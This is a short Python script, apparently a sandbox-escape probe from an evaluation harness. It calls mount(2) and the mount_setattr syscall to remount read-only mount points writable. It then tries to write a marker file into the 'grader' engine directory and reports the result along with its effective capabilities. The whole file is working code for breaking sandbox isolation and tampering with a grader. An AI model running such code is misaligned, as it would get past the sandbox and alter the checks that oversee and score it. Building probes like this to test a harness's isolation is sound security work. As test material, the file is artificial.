# Attack: remount the read-only view writable (mount(2) and mount_setattr(2)), then write into the engine.
import ctypes
import json
import os
import platform

_T = json.load(open("target.txt"))
_ENGINE = os.path.join(_T["root"], "grader")
_libc = ctypes.CDLL(None, use_errno=True)
_libc.mount.argtypes = [ctypes.c_char_p, ctypes.c_char_p, ctypes.c_char_p, ctypes.c_ulong, ctypes.c_char_p]


class _MountAttr(ctypes.Structure):
    _fields_ = [("attr_set", ctypes.c_uint64), ("attr_clr", ctypes.c_uint64),
                ("propagation", ctypes.c_uint64), ("userns_fd", ctypes.c_uint64)]


def _points():
    points = [_ENGINE, _T["root"], "/"]
    try:
        with open("/proc/self/mountinfo") as handle:
            points += [line.split()[4] for line in handle]
    except OSError:
        pass
    return list(dict.fromkeys(points))


_clear_rdonly = _MountAttr(0, 1, 0, 0)  # MOUNT_ATTR_RDONLY cleared
for _point in _points():
    _libc.mount(None, _point.encode(), None, 32 | 4096, None)  # MS_REMOUNT | MS_BIND, without MS_RDONLY
    if platform.machine() in ("x86_64", "aarch64"):
        _libc.syscall(442, -100, _point.encode(), 0x8000, ctypes.byref(_clear_rdonly), ctypes.sizeof(_clear_rdonly))
try:
    with open("/proc/self/status") as _status:
        _caps = [line.split()[1] for line in _status if line.startswith("CapEff:")][0]
except (OSError, IndexError):
    _caps = "?"
try:
    with open(os.path.join(_ENGINE, "remount-attack-314159.txt"), "w") as _f:
        _f.write("written from inside the sandbox\n")
    _wrote = "WROTE into the engine"
except OSError:
    _wrote = "refused"
raise RuntimeError(f"remount-then-write: {_wrote}, CapEff={_caps}")
